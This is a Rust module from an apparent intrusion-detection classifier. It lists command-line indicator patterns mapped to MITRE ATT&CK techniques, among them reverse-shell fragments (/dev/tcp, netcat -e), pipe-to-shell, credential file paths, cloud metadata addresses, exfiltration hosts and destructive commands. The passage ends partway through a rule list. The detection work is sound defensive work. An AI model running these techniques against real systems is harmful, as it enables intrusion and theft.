//! What command lines say: indicator families matched in one pass over the
//! command line with an Aho-Corasick automaton, and the names that put a
//! program into a family (shells, interpreters, web servers ...).
//!
//! Each indicator carries the sentence an analyst reads when it drives a
//! classification, and the MITRE ATT&CK technique it points to where that is
//! clear.

use aho_corasick::{AhoCorasick, AhoCorasickBuilder, MatchKind};
use std::sync::LazyLock;

/// A command-line indicator: a family of substrings (matched
/// case-insensitively), the sentence shown when it drives a verdict, and the
/// ATT&CK technique it points to.
pub struct Indicator {
    pub name: &'static str,
    pub patterns: &'static [&'static str],
    pub sentence: &'static str,
    pub technique: &'static str,
}

macro_rules! indicators {
    ($( $name:literal => [$($p:literal),+ $(,)?], $sentence:literal, $tech:literal; )+) => {
        &[ $( Indicator { name: $name, patterns: &[$($p),+], sentence: $sentence, technique: $tech } ),+ ]
    };
}

/// The indicator families, in feature order.
pub const INDICATORS: &[Indicator] = indicators! {
    "cmd_dev_tcp" => ["/dev/tcp/", "/dev/udp/"], "shell redirected to a network socket (/dev/tcp)", "T1095";
    "cmd_pipe_to_shell" => ["| sh", "|sh", "| bash", "|bash", "| /bin/sh", "|/bin/sh", "| /bin/bash", "|/bin/bash", "| zsh", "| dash", "| sudo sh", "| sudo bash", "| python", "|python", "| perl", "| ruby", "| php"], "output piped into a shell or interpreter", "T1059.004";
    "cmd_downloader" => ["curl ", "wget ", "tftp", "lwp-download", "aria2c", "fetch http", "/curl", "/wget", "lynx -dump", "invoke-webrequest"], "a download tool fetches remote content", "T1105";
    "cmd_url" => ["http://", "https://", "ftp://", "tftp://"], "a URL on the command line", "";
    "cmd_base64" => ["base64", "b64decode", "b64encode", "frombase64", "atob(", "btoa("], "base64-encoded payload handling", "T1140";
    "cmd_hex_escape" => ["\\x", "xxd -r", "xxd -p", "printf '\\", "od -a", "od -x", "\\u00"], "hex-escaped or hex-dumped payload", "T1027";
    "cmd_interp_inline" => ["python -c", "python3 -c", "python2 -c", "perl -e", "perl -me", "ruby -e", "ruby -r", "php -r", "node -e", "lua -e", "awk 'begin", "awk \"begin", "jjs", "irb", "gdb -nx -ex", "tclsh", "expect -c"], "inline code run by an interpreter", "T1059.006";
    "cmd_socket_code" => ["socket", "fsockopen", "tcpsocket", "net.socket", "connect((", ".connect(", "io::socket", "tcp-connect", "tcp:", "openssl s_client", "/inet/tcp"], "code that opens a network socket", "T1095";
    "cmd_spawn_shell" => ["pty.spawn", "os.system", "subprocess", "system(", "exec(", "popen", "/bin/sh", "/bin/bash", "sh -i", "bash -i", "exec sh", "exec bash", "execl", "spawn(", "os.exec", "exec \"/bin", "exec '/bin", "sh -p", "bash -p", "/bin/zsh", "/bin/dash"], "spawns a shell", "T1059.004";
    "cmd_shell_escape" => ["!/bin/sh", "!sh", "!bash", ":!/bin", "--to-command", "-exec /bin/sh", "-exec sh", "-exec bash", "proxycommand", "--use-compress-program", "--checkpoint-action", "-o proxycommand", "--pager", "pager=", "editor=", "-c:!", "--rsh", "-e sh", "--exec", "less_termcap"], "shell escape from another program (GTFOBins)", "T1059.004";
    "cmd_fd_redirect" => ["0>&1", ">&/dev", ">& /dev", "0<&", "<&3", ">&3", "0<&196", "exec 196<>", "5<>/dev", "<>/dev"], "standard streams redirected to a descriptor", "T1059.004";
    "cmd_netcat" => ["nc ", "ncat ", "netcat", "socat", "telnet ", "nc.traditional", "nc.openbsd", "/nc ", "cryptcat", "pwncat"], "netcat-style raw network tool", "T1095";
    "cmd_nc_exec" => ["-e /bin/", "-e sh", "-e bash", "-c sh", "-c bash", "exec:", "system:", "--sh-exec", "-e cmd"], "network tool executes a shell for the peer", "T1095";
    "cmd_listen" => [" -l ", "-lvp", "-lnvp", "-nlvp", "-lp ", "tcp-listen", "tcp4-listen", "bind(", ".listen(", "-l -p", "nc -l"], "listens for inbound connections (bind shell)", "T1095";
    "cmd_mkfifo" => ["mkfifo", "mknod", "/tmp/f;"], "named pipe for an interactive channel", "T1095";
    "cmd_history" => ["history -c", "histfile", "histsize", ".bash_history", "histcontrol", "unset hist", "history -w", "set +o history", "histfilesize", ".zsh_history"], "shell history tampering", "T1070.003";
    "cmd_log_tamper" => ["/var/log/", "journalctl --vacuum", "journalctl --rotate", "wtmp", "btmp", "lastlog", "utmp", "rsyslog", "syslog"], "system logs touched", "T1070.002";
    "cmd_wipe" => ["shred", "wipe ", "truncate -s 0", "srm ", "rm -rf", "rm -f", "unlink "], "files deleted or wiped", "T1070.004";
    "cmd_chmod_exec" => ["chmod +x", "chmod 777", "chmod 755", "chmod a+x", "chmod u+x", "chmod 0777", "chmod 0755", "chmod 700", "chmod o+w", "chmod 666"], "file made executable or world-writable", "T1222.002";
    "cmd_setuid" => ["u+s", "4755", "chmod +s", "g+s", "chmod 4", "chmod 2", "setcap", "cap_setuid", "cap_dac", "=ep"], "setuid bit or capabilities granted", "T1548.001";
    "cmd_sudo" => ["sudo ", "sudo -", "doas "], "runs through sudo", "T1548.003";
    "cmd_su" => ["su -", "su root", " su ", "runuser", "pkexec"], "switches user", "T1548";
    "cmd_cron" => ["crontab", "/etc/cron", "/var/spool/cron", "cron.d", "at now", "atq", "/etc/anacrontab", "systemd-run --on", ".timer"], "scheduled task created or listed", "T1053.003";
    "cmd_service" => ["systemctl enable", "/etc/systemd/", ".service", "daemon-reload", "/etc/init.d", "rc.local", "update-rc.d", "/lib/systemd", "/usr/lib/systemd", "chkconfig"], "system service created or changed", "T1543.002";
    "cmd_ssh_keys" => ["authorized_keys", "id_rsa", "id_ed25519", "id_ecdsa", "id_dsa", ".ssh/", "ssh-keygen", "known_hosts", "ssh-copy-id"], "SSH keys read or planted", "T1098.004";
    "cmd_shadow" => ["/etc/shadow", "/etc/gshadow", "master.passwd", "unshadow", "opasswd", "shadow-", "john ", "hashcat"], "password hashes accessed", "T1003.008";
    "cmd_passwd_file" => ["/etc/passwd", "/etc/group", "getent passwd", "getent group"], "account list read", "T1087.001";
    "cmd_sudoers" => ["/etc/sudoers", "sudoers.d", "nopasswd", "sudo -l", "visudo"], "sudo rights inspected or changed", "T1548.003";
    "cmd_user_mgmt" => ["useradd", "adduser", "usermod", "chpasswd", "groupadd", "userdel", "passwd ", "gpasswd", "newusers"], "local account created or changed", "T1136.001";
    "cmd_ld_preload" => ["ld_preload", "ld.so.preload", "ld_library_path", "/etc/ld.so", "ldconfig", ".so "], "shared-library injection", "T1574.006";
    "cmd_proc_mem" => ["/proc/self", "/mem", "/environ", "/proc/kcore", "/maps", "gcore", "ptrace", "gdb -p", "process_vm", "/proc/1/"], "process memory or environment read", "T1003.007";
    "cmd_recon_sys" => ["uname", "hostnamectl", "/etc/os-release", "/etc/issue", "lsb_release", "/proc/version", "dmidecode", "lscpu", "systemd-detect-virt", "lsmod", "/proc/cpuinfo", "/sys/class/dmi", "virt-what", "df -h", "lsblk"], "system information discovery", "T1082";
    "cmd_recon_user" => ["whoami", "/usr/bin/id", "id -", "groups", "who ", "users", "last ", "lastlog", "loginctl", "finger"], "user discovery", "T1033";
    "cmd_recon_net" => ["ifconfig", "ip addr", "ip a", "ip route", "netstat", "ss -", "arp ", "route", "resolv.conf", "/etc/hosts", "nmap", "ping -c", "traceroute", "iwconfig", "nmcli"], "network discovery", "T1016";
    "cmd_recon_proc" => ["ps aux", "ps -ef", "ps -e", "pstree", "top -b", "pgrep", "/proc/*", "lsof", "ps -a"], "process discovery", "T1057";
    "cmd_recon_files" => ["find / ", "-perm", "locate ", "ls -la /", "ls -al /", "tree /", "-name \"*.pem", "-name '*.pem", "*.key", "getcap -r"], "file and permission discovery", "T1083";
    "cmd_security_kill" => ["auditctl", "auditd", "setenforce", "apparmor", "systemctl stop", "systemctl disable", "kill -9", "pkill", "killall", "falco", "osquery", "selinux", "aa-disable", "aa-teardown"], "security tooling stopped or changed", "T1562.001";
    "cmd_firewall" => ["iptables", "ufw ", "nft ", "firewalld", "firewall-cmd", "ip6tables", "ipfw"], "firewall changed", "T1562.004";
    "cmd_capture" => ["tcpdump", "tshark", "wireshark", "dumpcap", "ettercap", "tcpflow"], "network traffic captured", "T1040";
    "cmd_archive" => ["tar c", "tar -c", "zip ", "7z a", "gzip", "rar a", "tar czf", "tar cf", "tar -z", "bzip2", "xz "], "data archived", "T1560.001";
    "cmd_exfil" => ["--data", "-d @", "--upload-file", "-t ", "-f file=", "-x post", "-x put", "--post-file", "--body-file", "nc -w", "scp ", "smbclient", "sftp", "--post-data", "curl -f", "-t /", "ftp -", "ftp put", "put "], "an option or tool that can send data to another host", "";
    "cmd_destroy" => ["dd if=/dev/zero", "dd if=/dev/urandom", "mkfs", "wipefs", ":(){", "kill -9 -1", "> /dev/sd", "of=/dev/", "openssl enc", "gpg -c", "gpg --symmetric", "ccencrypt", "--encrypt", "sysctl -w", "halt", "shutdown", "reboot", "init 0"], "destructive or encrypting action", "T1485";
    "cmd_tmp_path" => ["/tmp/", "/dev/shm", "/var/tmp", "/run/user"], "works in a world-writable directory", "";
    "cmd_kernel_module" => ["insmod", "modprobe", "rmmod", ".ko ", "kmod", "/lib/modules"], "kernel module loaded", "T1547.006";
    "cmd_profile" => [".bashrc", ".bash_profile", ".profile", "/etc/profile", ".zshrc", "bash.bashrc", "/etc/environment", ".bash_logout", "/etc/motd", "update-motd"], "shell start-up file touched", "T1546.004";
    "cmd_container" => ["docker run", "--privileged", "nsenter", "chroot", "unshare", "-v /:/", "docker.sock", "kubectl exec", "ctr run", "--pid=host"], "container or namespace escape", "T1611";
    "cmd_screen_clip" => ["xclip", "xsel", "xdotool", "import -window", "scrot", "xwd", "xinput", "logkeys", "xspy"], "screen, clipboard or keystroke capture", "T1113";
    "cmd_cred_files" => [".aws/credentials", ".kube/config", ".pgpass", ".netrc", ".git-credentials", ".docker/config", "credentials", "password", "passwd", "secret", "token", "private", ".gnupg", "keyring", ".mysql_history", "wallet"], "credential material referenced", "T1552.001";
    "cmd_timestomp" => ["touch -t", "touch -d", "touch -r", "touch -a", "touch -m", "--reference", "debugfs", "faketime"], "file times forged", "T1070.006";
    "cmd_background" => ["nohup", "setsid", "disown", "screen -dm", "tmux new -d", "daemonize", "start-stop-daemon", " &"], "detached from the terminal", "T1059.004";
    "cmd_mining" => ["xmrig", "stratum+tcp", "minerd", "cpuminer", "cryptonight", "monero", "--donate-level"], "cryptocurrency mining", "T1496";
    "cmd_encode_chain" => ["| base64", "|base64", "| xxd", "| gzip", "| openssl", "| rev", "| tr ", "|tr "], "output encoded before use", "T1027";
    "cmd_hidden_file" => ["/.", " ."], "hidden file or directory", "T1564.001";
    "cmd_remote_copy" => ["scp ", "rsync ", "sftp ", "git clone", "pip install", "npm install", "gem install", "go get", "apt-get install", "apt install", "yum install"], "software or files copied from elsewhere", "T1105";
    "cmd_eval" => ["eval ", "eval(", "$(", "`", "source /dev", ". /dev/stdin", "<(", "exec "], "dynamically evaluated shell code", "T1059.004";
};

/// The index of the indicator named `name`. Used in a `const`, a name that
/// is no indicator fails the build.
pub const fn indicator(name: &str) -> usize {
    let name = name.as_bytes();
    let mut i = 0;
    'next: while i < INDICATORS.len() {
        let n = INDICATORS[i].name.as_bytes();
        if n.len() == name.len() {
            let mut j = 0;
            while j < n.len() {
                if n[j] != name[j] {
                    i += 1;
                    continue 'next;
                }
                j += 1;
            }
            return i;
        }
        i += 1;
    }
    panic!("no indicator of that name")
}

/// One automaton over groups of substrings (ASCII case-insensitive, every
/// occurrence found in one pass): the indicators, and the argument rules of
/// [`command_technique`].
pub struct Matcher {
    ac: AhoCorasick,
    /// The group of each pattern, and the pattern.
    owner: Vec<(u16, &'static str)>,
}

impl Matcher {
    fn new(groups: impl IntoIterator<Item = &'static [&'static str]>) -> Matcher {
        let mut owner = Vec::new();
        for (g, patterns) in groups.into_iter().enumerate() {
            owner.extend(patterns.iter().map(|p| (g as u16, *p)));
        }
        let ac = AhoCorasickBuilder::new()
            .ascii_case_insensitive(true)
            .match_kind(MatchKind::Standard)
            .build(owner.iter().map(|(_, p)| p))
            .expect("patterns build an automaton");
        Matcher { ac, owner }
    }

    /// Every pattern occurring in `text`, with its group.
    fn found<'a>(&'a self, text: &'a str) -> impl Iterator<Item = (usize, &'static str)> + 'a {
        self.ac
            .find_overlapping_iter(text)
            .map(|m| self.owner[m.pattern().as_usize()])
            .map(|(g, p)| (g as usize, p))
    }

    /// Bit i set when indicator i occurs in `text`.
    pub fn scan(&self, text: &str) -> u64 {
        self.found(text).fold(0, |bits, (g, _)| bits | 1 << g)
    }
}

pub static MATCHER: LazyLock<Matcher> =
    LazyLock::new(|| Matcher::new(INDICATORS.iter().map(|i| i.patterns)));

/// The indicators of a command line: [`MATCHER`]'s, except that output
/// piped into an interpreter counts only when the interpreter reads its
/// *program* from the pipe ([`pipes_program_into_interpreter`]).
pub fn scan_command(line: &str) -> u64 {
    const PIPE: usize = indicator("cmd_pipe_to_shell");
    let bits = MATCHER.scan(line);
    if bits & (1 << PIPE) != 0 && !pipes_program_into_interpreter(line) {
        bits & !(1 << PIPE)
    } else {
        bits
    }
}

/// Whether a pipe in `line` feeds a shell or interpreter the program it
/// runs (`curl … | sh`, `| sudo bash -s`, `| python3 -`), not data for a
/// program named on its own command line (`| perl -pe 's/x/y/'`, Debian's
/// `xargs md5sum | perl -pe …`, `| python3 -m json.tool`, `| sh ./job.sh`,
/// `| bash -c 'read x; …'`).
fn pipes_program_into_interpreter(line: &str) -> bool {
    let bytes = line.as_bytes();
    // A pipe, not the `||` of a failed command.
    line.match_indices('|').any(|(i, _)| {
        bytes.get(i + 1) != Some(&b'|')
            && (i == 0 || bytes[i - 1] != b'|')
            && reads_program_from_stdin(&line[i + 1..])
    })
}

/// Whether the command at the start of `rest` (up to the next separator)
/// is an interpreter given no program of its own.
fn reads_program_from_stdin(rest: &str) -> bool {
    let end = rest
        .find(['|', ';', '&', ')', '\n', '`'])
        .unwrap_or(rest.len());
    let mut words = rest[..end]
        .split_whitespace()
        .map(|w| w.trim_matches(|c| c == '"' || c == '\'' || c == '('))
        .filter(|w| !w.is_empty())
        .peekable();
    // Wrappers that run the next word: sudo (and its options), env (and
    // its assignments), exec, nohup, command.
    while let Some(w) = words.peek() {
        match *w {
            "sudo" | "exec" | "nohup" | "command" | "env" | "/usr/bin/sudo" | "/usr/bin/env" => {
                words.next();
            }
            w if w.starts_with('-') || w.contains('=') => {
                let takes_value = matches!(w, "-u" | "-g" | "-U" | "-C" | "-h");
                words.next();
                if takes_value {
                    words.next();
                }
            }
            _ => break,
        }
    }
    let Some(program) = words.next() else {
        return false;
    };
    let bits = families(program);
    if !shellish(bits) {
        return false;
    }
    let shell = has(bits, Family::Shell);
    // The flags that give the program inline: a shell's -c; perl's and
    // ruby's -e/-E (also in -pe, -ne), python's -c and -m, php's -r.
    let inline: &[char] = if shell {
        &['c']
    } else {
        &['c', 'e', 'E', 'm', 'r']
    };
    for w in words {
        if w == "-" || w == "-s" || w == "--" {
            return true;
        }
        match w.strip_prefix('-') {
            // An operand: a script file, the program.
            None => return false,
            Some(flags) if !flags.starts_with('-') && flags.contains(inline) => return false,
            Some(_) => {}
        }
    }
    true
}

pub(crate) fn base(name: &str) -> &str {
    name.rsplit('/').next().unwrap_or(name)
}

/// Strips version suffixes: `python3.11` → `python`, `php-fpm8.2` → `php-fpm`.
fn stem(name: &str) -> &str {
    base(name).trim_end_matches(|c: char| c.is_ascii_digit() || c == '.')
}

/// Families a program name can belong to.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Family {
    Shell,
    Interpreter,
    Downloader,
    NetTool,
    EditorPager,
    AdminTool,
    Recon,
    Encoder,
    Archiver,
    Compiler,
    PackageManager,
    WebServer,
    Database,
    Cron,
    Sshd,
    CiRunner,
    Init,
    Privilege,
}

pub const FAMILIES: [Family; 18] = [
    Family::Shell,
    Family::Interpreter,
    Family::Downloader,
    Family::NetTool,
    Family::EditorPager,
    Family::AdminTool,
    Family::Recon,
    Family::Encoder,
    Family::Archiver,
    Family::Compiler,
    Family::PackageManager,
    Family::WebServer,
    Family::Database,
    Family::Cron,
    Family::Sshd,
    Family::CiRunner,
    Family::Init,
    Family::Privilege,
];

impl Family {
    pub fn name(self) -> &'static str {
        match self {
            Family::Shell => "shell",
            Family::Interpreter => "interpreter",
            Family::Downloader => "downloader",
            Family::NetTool => "nettool",
            Family::EditorPager => "editor",
            Family::AdminTool => "admintool",
            Family::Recon => "recon",
            Family::Encoder => "encoder",
            Family::Archiver => "archiver",
            Family::Compiler => "compiler",
            Family::PackageManager => "pkgmgr",
            Family::WebServer => "webserver",
            Family::Database => "database",
            Family::Cron => "cron",
            Family::Sshd => "sshd",
            Family::CiRunner => "ci",
            Family::Init => "init",
            Family::Privilege => "privilege",
        }
    }

    /// A phrase for sentences: "web server", "shell".
    pub fn phrase(self) -> &'static str {
        match self {
            Family::Shell => "shell",
            Family::Interpreter => "script interpreter",
            Family::Downloader => "download tool",
            Family::NetTool => "raw network tool",
            Family::EditorPager => "editor or pager",
            Family::AdminTool => "administration tool",
            Family::Recon => "discovery tool",
            Family::Encoder => "encoding tool",
            Family::Archiver => "archiver",
            Family::Compiler => "compiler",
            Family::PackageManager => "package manager",
            Family::WebServer => "web server",
            Family::Database => "database server",
            Family::Cron => "scheduler",
            Family::Sshd => "SSH daemon",
            Family::CiRunner => "CI runner",
            Family::Init => "init system",
            Family::Privilege => "privilege tool",
        }
    }
}

/// The ATT&CK technique that running `comm` is by itself, for programs
/// whose purpose names one (`hostname` is system discovery, `poweroff` a
/// shutdown, `tcpdump` sniffing); empty for general-purpose programs
/// (shells, interpreters, editors, `sudo`), whose arguments say more than
/// their name. Used to name what a flagged program start does; the
/// classifier's features do not read it.
pub fn program_technique(comm: &str) -> &'static str {
    let b = base(comm);
    let b = b.strip_prefix('-').unwrap_or(b);
    match program_technique_exact(b) {
        "" => program_technique_exact(stem(b)),
        t => t,
    }
}

/// The technique that starting a command interpreter is (ATT&CK T1059:
/// a shell is T1059.004, Python T1059.006, another interpreter T1059);
/// empty for any other program. What a flagged start of one is named when
/// nothing else about it says what for.
pub fn interpreter_technique(comm: &str) -> &'static str {
    let bits = families(comm);
    if has(bits, Family::Shell) {
        "T1059.004"
    } else if !has(bits, Family::Interpreter) {
        ""
    } else if stem(base(comm)).starts_with("python") {
        "T1059.006"
    } else {
        "T1059"
    }
}

fn program_technique_exact(name: &str) -> &'static str {
    match name {
        // Discovery.
        "hostname"
        | "hostnamectl"
        | "uname"
        | "lscpu"
        | "lsblk"
        | "lspci"
        | "lsusb"
        | "lshw"
        | "dmidecode"
        | "virt-what"
        | "systemd-detect-virt"
        | "lsmod"
        | "uptime"
        | "df"
        | "lsb_release"
        | "inxi"
        | "neofetch" => "T1082",
        "whoami" | "id" | "w" | "who" | "last" | "lastb" | "lastlog" | "users" | "groups"
        | "loginctl" | "finger" | "logname" => "T1033",
        "ps" | "pstree" | "pgrep" | "top" | "htop" | "pidof" => "T1057",
        "netstat" | "ss" | "lsof" | "fuser" => "T1049",
        "ifconfig" | "ip" | "route" | "arp" | "iwconfig" | "nmcli" | "resolvectl" | "iwlist" => {
            "T1016"
        }
        "nmap" | "masscan" | "zmap" | "rustscan" | "naabu" | "unicornscan" => "T1046",
        "ping" | "fping" | "traceroute" | "tracepath" | "arp-scan" | "nbtscan" | "arping" => {
            "T1018"
        }
        "smbstatus" | "smbmap" | "showmount" | "rpcclient" | "enum4linux" => "T1135",
        "getent" | "compgen" => "T1087",
        "find" | "locate" | "mlocate" | "plocate" | "tree" | "getcap" | "getfacl" => "T1083",
        "timedatectl" => "T1124",
        // Enumeration scripts an intrusion fetches to find its way up:
        // they survey the system (`pspy` watches its processes).
        "linpeas"
        | "linenum"
        | "lse"
        | "les"
        | "linux-exploit-suggester"
        | "unix-privesc-check"
        | "linuxprivchecker"
        | "linux-smart-enumeration" => "T1082",
        "pspy" | "pspy32" | "pspy64" => "T1057",
        // Defence evasion.
        "pfctl" | "iptables" | "ip6tables" | "iptables-restore" | "nft" | "ufw"
        | "firewall-cmd" | "ipfw" => "T1562.004",
        "setenforce" | "auditctl" | "aa-disable" | "aa-teardown" | "aa-complain" => "T1562.001",
        "chattr" => "T1222.002",
        "base64" | "base32" | "basenc" | "uudecode" | "xxd" => "T1140",
        "shred" | "wipe" | "srm" => "T1070.004",
        // Impact.
        "poweroff" | "shutdown" | "reboot" | "halt" => "T1529",
        "xmrig" | "minerd" | "cpuminer" | "xmr-stak" | "t-rex" | "nbminer" => "T1496",
        "wipefs" | "mkfs" => "T1561",
        // Credential access.
        "tcpdump" | "tshark" | "dumpcap" | "ettercap" | "tcpflow" => "T1040",
        "john" | "hashcat" | "unshadow" | "hydra" | "medusa" | "ncrack" => "T1110",
        "mimipenguin" | "gcore" | "laZagne" | "lazagne" => "T1003",
        // Persistence.
        "crontab" => "T1053.003",
        "at" | "batch" => "T1053.002",
        "useradd" | "adduser" | "groupadd" | "newusers" => "T1136.001",
        "usermod" | "chpasswd" | "gpasswd" | "chage" => "T1098",
        "insmod" | "modprobe" => "T1547.006",
        "update-rc.d" | "chkconfig" => "T1037.004",
        // Privilege escalation.
        "setcap" => "T1548.001",
        // Collection.
        "xclip" | "xsel" | "wl-paste" => "T1115",
        "scrot" | "xwd" | "import" | "gnome-screenshot" | "grim" => "T1113",
        "logkeys" | "xinput" | "xdotool" => "T1056.001",
        "arecord" => "T1123",
        // Lateral movement, command and control, exfiltration.
        "ssh" | "sshpass" => "T1021.004",
        "chisel" | "frpc" | "frps" | "ngrok" | "iodine" | "dnscat" | "dnscat2" | "ligolo"
        | "gost" => "T1572",
        "proxychains" | "proxychains4" | "tor" | "torsocks" => "T1090",
        "nc" | "ncat" | "netcat" | "socat" | "cryptcat" | "pwncat" => "T1095",
        "rclone" | "megacmd" | "mega-put" => "T1567.002",
        _ => "",
    }
}

/// A command line's arguments that name an ATT&CK technique by themselves:
/// what ATT&CK and its procedure examples describe by the files, services
/// and options a command touches rather than by the program (a password
/// policy read from `/etc/login.defs`, the cloud metadata service asked
/// for credentials, a file split into chunks before it leaves). Written
/// from ATT&CK's technique descriptions, not fitted to any test.
///
/// A rule fires when the line (ignoring ASCII case, unless a pattern has
/// capitals) contains one of `any`, one of `and` when `and` is not empty,
/// and none of `not`; the first rule that fires names the technique.
struct CommandRule {
    technique: &'static str,
    any: &'static [&'static str],
    and: &'static [&'static str],
    not: &'static [&'static str],
}

const fn rule(technique: &'static str, any: &'static [&'static str]) -> CommandRule {
    CommandRule {
        technique,
        any,
        and: &[],
        not: &[],
    }
}

const TMP_DIRS: &[&str] = &["/tmp/", "/dev/shm", "/var/tmp"];

const COMMAND_RULES: &[CommandRule] = &[
    // Credential access.
    rule(
        "T1552.005",
        &[
            "169.254.169.254",
            "metadata.google.internal",
            "/computemetadata/",
            "/latest/meta-data",
        ],
    ),
    rule(
        "T1552.007",
        &["/secrets/kubernetes.io", "serviceaccount/token"],
    ),
    rule(
        "T1555.003",
        &[
            "logins.json",
            "key4.db",
            "key3.db",
            "signons.sqlite",
            "cookies.sqlite",
            "login data",
        ],
    ),
    rule(
        "T1555",
        &[
            "secret-tool",
            "gnome-keyring",
            "kwallet",
            ".password-store",
            ".kdbx",
            "keepassxc-cli",
        ],
    ),
    rule(
        "T1558",
        &["klist", "kinit ", "krb5cc_", ".keytab", "ktutil"],
    ),
    // A password policy is read in the PAM files that would be modified to
    // capture passwords: reading the policy is discovery.
    rule(
        "T1201",
        &[
            "/etc/login.defs",
            "pwquality.conf",
            "common-password",
            "chage -l",
            "faillock.conf",
        ],
    ),
    rule(
        "T1556.003",
        &[
            "/etc/pam.d/",
            "pam_exec.so",
            "pam_unix.so",
            "/lib/security/",
            "-linux-gnu/security/",
            "/lib64/security/",
        ],
    ),
    CommandRule {
        technique: "T1552.004",
        any: &[
            "id_rsa",
            "id_ed25519",
            "id_ecdsa",
            "id_dsa",
            ".pem",
            ".p12",
            ".pfx",
            "*.key",
            ".ppk",
            ".jks",
            ".keystore",
        ],
        and: &[],
        // Keys planted for logins, and keys used or made by the SSH tools.
        not: &[
            "authorized_keys",
            "ssh ",
            "ssh-keygen",
            "scp ",
            "sftp ",
            "ssh-add",
            "ssh-copy-id",
            "-i ",
        ],
    },
    rule("T1563.001", &["ssh_auth_sock", "/tmp/ssh-"]),
    // Discovery.
    rule(
        "T1614",
        &[
            "localectl",
            "/etc/timezone",
            "/etc/default/locale",
            "locale -a",
            "$lang",
            "ipinfo.io",
            "ip-api.com",
            "geoiplookup",
        ],
    ),
    rule(
        "T1016",
        &[
            "ifconfig.me",
            "icanhazip",
            "ipify.org",
            "checkip.",
            "ident.me",
            "/sys/class/net",
        ],
    ),
    // A browser extension installed (persistence) is found in the same
    // profile folders a bookmark search reads.
    rule(
        "T1176",
        &[
            "--load-extension",
            ".crx",
            "default/extensions/",
            "-release/extensions/",
        ],
    ),
    rule(
        "T1217",
        &[
            "places.sqlite",
            "/bookmarks",
            ".mozilla/firefox",
            "google-chrome/default",
            "chromium/default",
        ],
    ),
    rule(
        "T1518",
        &[
            "dpkg -l",
            "dpkg --list",
            "dpkg-query -l",
            "dpkg --get-selections",
            "rpm -qa",
            "apt list --installed",
            "yum list installed",
            "dnf list installed",
            "pip list",
            "pip freeze",
            "snap list",
        ],
    ),
    rule(
        "T1007",
        &[
            "systemctl list-units",
            "systemctl list-unit-files",
            "service --status-all",
            "--type=service",
            "chkconfig --list",
            "initctl list",
        ],
    ),
    rule(
        "T1613",
        &[
            "docker ps",
            "docker images",
            "docker inspect",
            "docker info",
            "kubectl get",
            "kubectl describe",
            "kubectl auth can-i",
            "crictl ps",
            "crictl pods",
            "podman ps",
        ],
    ),
    rule(
        "T1619",
        &["s3 ls", "s3api list", "gsutil ls", "storage blob list"],
    ),
    rule(
        "T1580",
        &[
            "describe-instances",
            "ec2 describe",
            "compute instances list",
            "az vm list",
            "get-caller-identity",
            "iam list-",
        ],
    ),
    // Collection.
    rule(
        "T1560.002",
        &[
            "import tarfile",
            "import zipfile",
            "tarfile.open",
            "zipfile.zipfile",
            "make_archive",
            "archive/zip",
            "archive/tar",
        ],
    ),
    rule(
        "T1125",
        &["/dev/video", "-f v4l2", "fswebcam", "streamer -f"],
    ),
    rule("T1123", &["-f alsa", "-f pulse", "parec ", "arecord"]),
    rule(
        "T1056.001",
        &[
            "pam_tty_audit",
            "/dev/input/event",
            "prompt_command",
            "showkey",
            "logkeys",
        ],
    ),
    rule(
        "T1114",
        &["/var/mail/", "/var/spool/mail", "maildir", ".thunderbird"],
    ),
    // Exfiltration.
    rule(
        "T1030",
        &["split -b", "split --bytes", "split -c", "split -l"],
    ),
    rule(
        "T1567",
        &[
            "transfer.sh",
            "file.io",
            "pastebin.com/api",
            "paste.ee",
            "0x0.st",
            "api.telegram.org",
            "discord.com/api/webhooks",
            "hooks.slack.com",
            "gofile.io",
            "webhook.site",
            "anonfiles",
        ],
    ),
    rule(
        "T1567.002",
        &[
            "s3 cp",
            "s3 sync",
            "s3api put-object",
            "gsutil cp",
            "gsutil rsync",
            "azcopy",
            "rclone copy",
            "rclone sync",
            "dropbox_uploader",
            "mega-put",
        ],
    ),
    // Command and control.
    rule(
        "T1219",
        &[
            "x11vnc",
            "vncserver",
            "teamviewer",
            "anydesk",
            "rustdesk",
            "tmate",
            "meshagent",
        ],
    ),
    // Persistence and privilege escalation.
    rule("T1546.005", &["trap '", "trap \"", "trap -- "]),
    rule(
        "T1505.003",
        &[
            "> /var/www/",
            ">/var/www/",
            ">> /var/www/",
            "tee /var/www/",
            "tee -a /var/www/",
            "> /usr/share/nginx/html",
            "> /srv/www/",
        ],
    ),
    rule(
        "T1068",
        &[
            "dirtycow",
            "dirty_cow",
            "dirtypipe",
            "dirty_pipe",
            "pwnkit",
            "cve-20",
            "exploit",
        ],
    ),
    // Execution.
    rule(
        "T1609",
        &["docker exec", "kubectl exec", "crictl exec", "podman exec"],
    ),
    rule(
        "T1072",
        &[
            "ansible all -m",
            "ansible -m shell",
            "-m shell -a",
            "-m command -a",
            "cmd.run",
            "puppet apply",
            "chef-client",
        ],
    ),
    // Defence evasion.
    rule(
        "T1553.004",
        &[
            "update-ca-certificates",
            "update-ca-trust",
            "/usr/local/share/ca-certificates",
            "/etc/pki/ca-trust",
            "trust anchor",
        ],
    ),
    rule(
        "T1562.006",
        &[
            "auditctl -d",
            "auditctl -e 0",
            "/etc/audit/",
            "auditd.conf",
            "audit.rules",
        ],
    ),
    rule(
        "T1562.001",
        &[
            "setenforce 0",
            "aa-disable",
            "aa-teardown",
            "apparmor",
            "falco",
            "osquery",
            "auditd",
            "clamav",
            "selinux",
            "sysdig",
            "wazuh",
            "ossec",
            "tetragon",
            "crowdstrike",
            "falcon-sensor",
            "sentinelone",
            "cbagent",
        ],
    ),
    rule(
        "T1612",
        &[
            "docker build",
            "podman build",
            "buildah bud",
            "buildah build",
            "kaniko",
        ],
    ),
    rule("T1620", &["memfd_create", "memfd:"]),
    rule("T1027.002", &["upx "]),
    rule(
        "T1027.001",
        &[
            "truncate -s +",
            "count=1 >>",
            "conv=notrunc oflag=append",
            "oflag=append conv=notrunc",
        ],
    ),
    CommandRule {
        technique: "T1027.004",
        any: &["gcc ", "cc ", "clang ", "tcc ", "go build", "rustc "],
        and: TMP_DIRS,
        not: &[],
    },
    rule(
        "T1036",
        &["exec -a ", "[kworker", "kthreadd]", "[migration/"],
    ),
    // Impact.
    rule(
        "T1490",
        &[
            "btrfs subvolume delete",
            "lvremove",
            "zfs destroy",
            "snapper delete",
            "timeshift --delete",
            "rm -rf /var/backups",
            "rm -rf /backup",
        ],
    ),
    CommandRule {
        technique: "T1531",
        any: &[
            "userdel",
            "deluser",
            "passwd -l",
            "passwd --lock",
            "usermod -L",
            "usermod --lock",
            "chage -E 0",
            "passwd -d",
        ],
